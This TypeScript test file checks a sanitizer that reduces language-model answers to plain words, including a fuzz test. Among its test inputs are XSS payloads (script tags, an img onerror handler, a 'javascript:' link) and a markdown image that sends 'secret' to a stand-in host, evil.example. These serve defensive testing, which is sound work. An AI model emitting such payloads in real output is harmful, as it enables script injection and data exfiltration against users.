import assert from 'node:assert/strict';
import { test } from 'node:test';
import { seededRandom } from '../../../kernel/seeded-random.ts';
import { plainName, plainWords } from './plain-words.ts';

test('what a language model answers becomes plain words', () => {
  for (const [answer, words] of [
    ['Parcels arrive late.', 'Parcels arrive late.'],
    ['## Summary\n\n- **Late** parcels\n- _Rude_ calls', 'Summary Late parcels Rude calls'],
    ['<script>alert(1)</script>Late <b>parcels</b>', 'alert(1) Late parcels'],
    ['<img src=x onerror=alert(1)', ''],
    ['See [here](javascript:alert(1)) and ![x](http://evil.example/?q=secret) or https://evil.example/a?b=c now', 'See here) and or now'],
    ['Call [us](https://evil.example) or www.evil.example', 'Call us or'],
    ['<think>The user is Anna</think>Late parcels', 'Late parcels'],
    ['```json\n{"name": "late"}\n```', '"name": "late"'],
    ['La\u202Ete par\u200Bcels\u0000', 'Late parcels'],
    ['Write to anna@example.org or +47 912 34 567', 'Write to a•••@•••.org or ••••67'],
    ['', ''], ['\n \u200B', ''], ['<!-- -->', ''],
  ] as const) assert.equal(plainWords(answer, 200) ?? '', words, answer);
  assert.equal(plainWords('word '.repeat(100), 24), 'word word word word…');
  assert.equal([...plainWords('😀'.repeat(100), 10) ?? ''].length, 10);
});

test('a name is one line without quotes', () => {
  assert.equal(plainName('Topic: "Late parcels."\nBecause they all …', 60), 'Late parcels');
  assert.equal(plainName('\n\n**Late parcels**', 60), 'Late parcels');
  assert.equal(plainName('<think>hm\nhm</think>\nLate', 60), 'Late');
  assert.equal(plainName('""', 60), null);
});

test('whatever is answered, no markup, no link and nothing unseen is left', () => {
  const pieces = ['<', '>', 'a', '[', ']', '(', ')', '!', 'http://', 'javascript:', '`', '```', '*', '_', '&lt;', '\u202e', '\u0000', ' ', '\n', '#', '- ', '|', '{', '}', '\\', '😀', 'script', '\ud800', 'www.x'];
  const seed = 20261122;
  const random = seededRandom(seed);
  for (let each = 0; each < 5_000; each += 1) {
    const answer = Array.from({ length: Math.floor(random() * 30) }, () => pieces[Math.floor(random() * pieces.length)]).join('');
    const words = plainWords(answer, 80) ?? '';
    assert.doesNotMatch(words, /[<>{}[\]\\`\u0000-\u001f\u200b-\u200f\u202a-\u202e]|https?:|javascript:|www\./iu, `seed ${seed}: ${JSON.stringify(answer)} → ${words}`);
    assert.ok([...words].length <= 80);
  }
});
